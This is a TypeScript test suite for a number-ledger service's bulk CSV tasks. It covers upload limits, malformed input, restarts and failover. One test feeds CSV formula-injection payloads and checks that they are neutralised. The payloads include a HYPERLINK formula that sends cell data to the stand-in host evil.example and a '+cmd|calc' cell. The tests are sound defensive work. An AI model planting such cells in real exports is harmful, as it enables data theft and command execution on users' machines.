import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crashAtCheckpoint, createHome, LedgerHome, parseCsv, RunningLedger, startService, StoreKind, waitForTask } from './tasks-harness';

const LIMIT = 64 * 1024;
/** Tests that restart the service: a bound for a busy machine, not a measure. */
const RESTARTS_MS = 180_000;

/**
 * Tasks stay bounded and safe (SPEC 11, docs/tasks.md): an upload over the limit is refused
 * before it is stored, a malformed CSV ends its task with an error (also when resumed),
 * output cells a spreadsheet would run are neutralised, and on PostgreSQL a task survives
 * the loss of the instance that accepted it.
 */
export function describeTaskBounds(kind: StoreKind): void {
  describe(`bulk CSV tasks are bounded and safe (${kind})`, () => {
    let home: LedgerHome;
    let ledger: RunningLedger;

    const count = async (sql: string): Promise<number> => Number((await ledger.runtime.stores.sql.query<{ n: number }>(sql)).rows[0].n);
    const submit = (action: string, csv: string) => ledger.call('POST', `/v1/tasks?action=${action}`, { csv });
    const output = async (r: RunningLedger, id: string) => parseCsv((await r.call('GET', `/v1/tasks/${id}/output`)).body);
    const recorded = async () => ({ tasks: await count('SELECT count(*) AS n FROM tasks'), stored: await count('SELECT count(*) AS n FROM task_files') });

    beforeAll(async () => {
      home = await createHome(kind);
      home.settings.taskUploadLimitBytes = LIMIT;
      ledger = await startService(home);
      expect((await ledger.call('POST', '/v1/accounts', { body: { id: 'acme', name: 'Acme' } })).status).toBe(201);
    }, RESTARTS_MS);

    afterAll(async () => {
      await ledger?.stop();
      await home?.remove();
    });

    it('refuses an upload over the limit with 413 problem+json, declared or streamed, and records nothing', async () => {
      const before = await recorded();
      const big = 'e164\n' + '+14155550100\n'.repeat(LIMIT / 13 + 10);
      const declared = await submit('import', big);
      expect(declared.status).toBe(413);
      expect(declared.headers.get('content-type')).toContain('application/problem+json');
      expect(declared.body.code).toBe('payload_too_large');

      const streamed = await ledger.call('POST', '/v1/tasks?action=import', { csvStream: big });
      expect(streamed.status).toBe(413);
      expect(streamed.body.code).toBe('payload_too_large');
      expect(await recorded()).toEqual(before);

      const fits = await submit('import', 'e164\n+14155550100\n');
      expect(fits.status).toBe(202);
      expect(await waitForTask(ledger, fits.body.id)).toMatchObject({ status: 'success', succeeded: 1 });
    });

    it('refuses a CSV whose header names a column twice with 400, recording nothing (which cell a row means would be a guess)', async () => {
      const before = await recorded();
      for (const csv of ['e164,e164,account_id\n+14155554106,+14155554107,\n', 'e164,account_id, account_id\n+14155554108,a,b\n']) {
        const r = await submit('import', csv);
        expect(r.status).toBe(400);
        expect(r.headers.get('content-type')).toContain('application/problem+json');
        expect(r.body).toMatchObject({ code: 'validation_failed', detail: expect.stringContaining('more than once') });
      }
      expect(await recorded()).toEqual(before);
    });

    it('refuses a CSV that is not UTF-8 with 400 (a Latin-1 "Café" would be recorded as "Caf\uFFFD"), recording nothing', async () => {
      const before = await recorded();
      const latin1 = Buffer.from('e164,account_id,e911.locality\n+14155554109,,Caf\xe9\n', 'latin1');
      const r = await ledger.call('POST', '/v1/tasks?action=import', { csv: latin1 });
      expect(r.status).toBe(400);
      expect(r.body).toMatchObject({ code: 'validation_failed', detail: expect.stringContaining('not UTF-8') });
      expect(await recorded()).toEqual(before);
      const utf8 = Buffer.from('e164,e911.locality\n+14155554110,Caf\u00e9\n', 'utf8');
      expect((await ledger.call('POST', '/v1/tasks?action=import', { csv: utf8 })).status).toBe(202);
    });

    it('fails a CSV with an unterminated quote with a clear error instead of leaving it executing', async () => {
      const csv = 'e164,account_id\n+14155550201,\n+14155550202,\n"+14155550203,\n+14155550204,\n';
      const r = await submit('import', csv);
      expect(r.status).toBe(202);
      const done = await waitForTask(ledger, r.body.id);
      expect(done).toMatchObject({ status: 'failure', total: 4, succeeded: 2, failed: 2 });
      expect(done.error).toMatch(/^malformed CSV after row 2: .*quote/i);
      expect((await output(ledger, r.body.id)).slice(1).map((row) => [row[0], row[2]])).toEqual([['+14155550201', 'success'], ['+14155550202', 'success']]);
      expect((await ledger.call('GET', '/v1/numbers/+14155550202')).body.state).toBe('available');
    });

    it('fails such a task when it is resumed after a restart, too', async () => {
      await ledger.tasks.stop(); // accepted, never run: the worker is gone
      const r = await submit('release', 'e164\n"+14155550201\n');
      expect(r.status).toBe(202);
      const state = (await ledger.tasks.journal.load(r.body.id))!;
      await ledger.tasks.journal.start(state, 'a worker that died');
      await ledger.stop();
      ledger = await startService(home);
      const done = await waitForTask(ledger, r.body.id);
      expect(done).toMatchObject({ status: 'failure', succeeded: 0 });
      expect(done.error).toMatch(/^malformed CSV after row 0/);
      expect((await ledger.call('GET', '/v1/numbers/+14155550201')).body.state).toBe('available');
    }, RESTARTS_MS);

    it('neutralises output cells a spreadsheet would run as a formula, keeping E.164 numbers usable', async () => {
      const csv = ['e164,account_id,note', '+14155550301,,=1+2', '=HYPERLINK("http://evil.example/?x="&A1;"open"),,', '+14155550302,@SUM(A1:A9),-5', '-2+3,,+cmd|calc'].join('\n');
      const r = await submit('import', csv);
      await waitForTask(ledger, r.body.id);
      const rows = await output(ledger, r.body.id);
      expect(rows[1].slice(0, 4)).toEqual(['+14155550301', '', "'=1+2", 'success']);
      expect(rows[2][0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1;"open")`);
      expect(rows[3].slice(0, 3)).toEqual(['+14155550302', "'@SUM(A1:A9)", '-5']);
      expect(rows[4].slice(0, 3)).toEqual(["'-2+3", '', "'+cmd|calc"]);
      const cells = rows.flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^(\+[1-9]\d{1,14}|-?\d+)$/.test(c))).toEqual([]);
      expect(cells.some((c) => c.startsWith("'") && /^'[=+\-@]/.test(c))).toBe(true);

      const list = await ledger.call('POST', '/v1/tasks?action=list');
      await waitForTask(ledger, list.body.id);
      const listed = (await output(ledger, list.body.id)).slice(1).map((row) => row[0]);
      expect(listed).toContain('+14155550301'); // E.164 numbers are exported as they are
    });

    it('refuses hostile values in a row as that row\'s validation error, appending nothing for it (SPEC 12)', async () => {
      const before = await count('SELECT count(*) AS n FROM ledger_events');
      const csv = ['e164,account_id,e911.street_address', '+14155550401,acme\u0000,', `+14155550402,,${'x'.repeat(5000)}`, '+14155550403,,'].join('\n');
      const r = await submit('import', csv);
      expect(r.status).toBe(202);
      expect(await waitForTask(ledger, r.body.id)).toMatchObject({ status: 'partial', succeeded: 1, failed: 2 });
      const rows = await output(ledger, r.body.id);
      const errorAt = rows[0].indexOf('error');
      expect(rows.slice(1, 3).map((row) => row[errorAt].split(':')[0])).toEqual(['validation_failed', 'validation_failed']);
      const streams = await count(`SELECT count(*) AS n FROM ledger_events WHERE stream_id IN ('number-+14155550401', 'number-+14155550402')`);
      expect(streams).toBe(0);
      expect(await count('SELECT count(*) AS n FROM ledger_events')).toBeGreaterThan(before);
    });

    if (kind === 'postgres') {
      it('resumes a task on another instance whose data directory never saw the upload', async () => {
        ledger.tasks.options.bulkChunkRows = 100;
        const list = Array.from({ length: 400 }, (_, i) => `+1415556${String(i).padStart(4, '0')}`);
        const died = crashAtCheckpoint(ledger, 2);
        const r = await submit('import', ['e164,account_id', ...list.map((n) => `${n},`)].join('\n'));
        expect(r.status).toBe(202);
        await died;
        await ledger.stop(); // instance A is gone, and so is its data directory
        rmSync(home.dataDir, { recursive: true, force: true });

        const otherDir = mkdtempSync(join(tmpdir(), 'ledger-tasks-b-'));
        try {
          ledger = await startService({ ...home, dataDir: otherDir, settings: { ...home.settings, dataDir: otherDir } });
          const done = await waitForTask(ledger, r.body.id);
          expect(done).toMatchObject({ status: 'success', total: 400, succeeded: 400, failed: 0 });
          const rows = await output(ledger, r.body.id);
          expect(rows[0]).toEqual(['e164', 'account_id', 'result', 'error']);
          expect(rows.slice(1).map((row) => row[0])).toEqual(list);
          expect(rows.slice(1).every((row) => row[2] === 'success')).toBe(true);
          expect(await count(`SELECT count(*) AS n FROM ledger_events WHERE stream_id LIKE 'number-+1415556%'`)).toBe(400);
        } finally {
          await ledger.stop();
          rmSync(otherDir, { recursive: true, force: true });
          ledger = await startService(home); // for afterAll
        }
      }, RESTARTS_MS);
    }
  });
}
